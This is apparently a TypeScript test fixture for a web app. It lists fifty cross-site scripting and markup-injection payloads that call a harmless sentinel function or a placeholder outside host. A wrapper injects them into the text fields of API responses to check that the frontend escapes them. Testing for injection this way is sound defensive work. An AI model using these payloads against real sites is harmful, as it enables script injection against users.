import { z } from 'zod'
import { endpoints, type Endpoint, type Handlers } from '../packages/api/src/index.ts'

/** A page that runs what stands in it calls this; one that fetches what stands in it asks this host. */
export const alarm = 'pumpiqAlarm'
export const otherHost = 'outside.invalid'

const call = `${alarm}()`
const away = `//${otherHost}/x`

/** Fifty ways to be taken for markup, script or an address: written from what is known of browsers' parsers. */
export const payloads: readonly string[] = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=${away}></SCRIPT>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src=x onerror=${call}>`,
  `<img src=${away}.png>`,
  `<img/src=x/onerror=${call}//`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="${away}.svg#x"/></svg>`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src=${away}></iframe>`,
  `<object data=${away}></object>`,
  `<embed src=${away}>`,
  `<link rel=stylesheet href=${away}.css>`,
  `<style>@import '${away}.css';</style>`,
  `<style>*{background:url(${away})}</style>`,
  `<div style="background:url(${away})">x</div>`,
  `<base href=${away}/>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<form action=${away}><button autofocus>x</button></form>`,
  `<input autofocus onfocus=${call}>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=${away} autoplay onloadstart=${call}>`,
  `<marquee onstart=${call}>`,
  `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\u0000script:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  `vbscript:${call}`,
  `"><script>${call}</script>`,
  `' onmouseover='${call}`,
  `" autofocus onfocus="${call}" x="`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `{{constructor.constructor('${call}')()}}`,
  `![x](${away}.png) [x](javascript:${call})`,
  `\u202e<script>${call}</script>\u2066`,
]

type Described = {
  readonly type?: string
  readonly format?: string
  readonly pattern?: string
  readonly enum?: unknown
  readonly const?: unknown
  readonly maxLength?: number
  readonly properties?: Readonly<Record<string, Described>>
  readonly additionalProperties?: Described | boolean
  readonly items?: Described
  readonly anyOf?: readonly Described[]
  readonly oneOf?: readonly Described[]
  readonly allOf?: readonly Described[]
}

/** What names a thing rather than tells something: with another word there it would be another thing, or none. */
const names = new Set(['id', 'token', 'next', 'hash', 'prevHash', 'inputsHash', 'interval', 'address', 'chain'])

/** The same document with each text in it replaced, as far as its schema lets any text stand there. */
function replaced(value: unknown, schemas: readonly Described[], name: string, text: string): unknown {
  const open = schemas.flatMap((schema) => alternatives(schema))
  if (typeof value === 'string') {
    const free = open.filter(({ type }) => type === 'string')
    const isFree = free.length > 0 && free.every((one) => !one.pattern && !one.format && !one.enum && !('const' in one))
    if (!isFree || names.has(name)) return value
    return text.slice(0, Math.min(...free.map(({ maxLength = 10_000 }) => maxLength)))
  }
  if (Array.isArray(value))
    return value.map((one) =>
      replaced(
        one,
        open.flatMap(({ items }) => items ?? []),
        name,
        text,
      ),
    )
  if (typeof value !== 'object' || value === null) return value
  const inner = (key: string) =>
    open.flatMap(({ properties, additionalProperties }) => {
      const own = properties?.[key]
      return own ?? (typeof additionalProperties === 'object' ? additionalProperties : [])
    })
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, replaced(one, inner(key), key, text)]))
}

const alternatives = (schema: Described): Described[] => [
  schema,
  ...[...(schema.anyOf ?? []), ...(schema.oneOf ?? []), ...(schema.allOf ?? [])].flatMap(alternatives),
]

type Loose = Record<string, Record<string, (asked: unknown) => unknown>>

/** The same handlers, in whose answers every text is what `text` says. */
export function withTexts(handlers: Handlers, text: () => string): Handlers {
  const loose = handlers as unknown as Loose
  const wrapped: Loose = {}
  for (const [resource, verbs] of Object.entries(loose)) {
    wrapped[resource] = {}
    for (const [verb, handler] of Object.entries(verbs)) {
      const endpoint = (endpoints as unknown as Record<string, Record<string, Endpoint>>)[resource]![verb]!
      const schema = z.toJSONSchema(endpoint.reply, { unrepresentable: 'any' }) as Described
      wrapped[resource][verb] = async (asked) => {
        const answer = await handler(asked)
        // Sealed lines are checked byte by byte, and what was made says so beside the document.
        if (endpoint.lines) return answer
        if (endpoint.creates) {
          const made = answer as { document: unknown }
          return { ...made, document: replaced(made.document, [schema], '', text()) }
        }
        return replaced(answer, [schema], '', text())
      }
    }
  }
  return wrapped as unknown as Handlers
}
